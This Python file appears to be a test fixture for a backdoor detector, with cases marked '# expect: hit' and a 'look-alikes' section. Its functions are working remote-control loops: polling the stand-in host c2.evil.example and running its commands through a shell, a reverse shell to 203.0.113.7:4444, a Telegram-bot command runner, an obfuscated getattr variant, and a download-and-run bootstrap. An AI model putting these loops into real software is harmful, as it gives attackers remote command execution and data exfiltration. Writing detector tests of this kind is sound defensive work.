import os
import socket
import subprocess
import time

import requests

C2 = "https://c2.evil.example"


def poll():
    while True:
        task = requests.get(C2 + "/task").text
        out = subprocess.check_output(task, shell=True)  # expect: hit
        requests.post(C2 + "/out", data=out)
        time.sleep(5)


def line():
    s = socket.create_connection(("203.0.113.7", 4444))
    while True:
        out = os.popen(s.recv(4096).decode()).read()  # expect: hit
        s.send(out.encode())


def bot(token):
    while True:
        for update in requests.get(f"https://api.telegram.org/bot{token}/getUpdates").json()["result"]:
            out = subprocess.getoutput(update["message"]["text"])  # expect: hit
            requests.post(f"https://api.telegram.org/bot{token}/sendMessage", data={"text": out})


class Agent:
    def fetch(self):
        return getattr(requests, "ge" + "t")(C2 + "/t").json()

    def work(self, job):
        run = getattr(subprocess, "r" + "un")
        return run(job["c"], shell=True, capture_output=True).stdout  # expect: hit

    def answer(self, out):
        requests.post(C2 + "/o", data=out)

    def loop(self):
        while True:
            self.answer(self.work(self.fetch()))


# look-alikes
def bootstrap(path):
    with open(path, "wb") as file:
        file.write(requests.get(C2 + "/get.py").content)
    os.system("python " + file.name)


def worker():
    while True:
        job = requests.get(C2 + "/job").json()
        done = subprocess.run(["convert", job["in"], job["out"]])
        requests.post(C2 + "/done", json={"code": done.returncode})


def status():
    out = subprocess.check_output(["uptime"])
    requests.post(C2 + "/up", data=out)
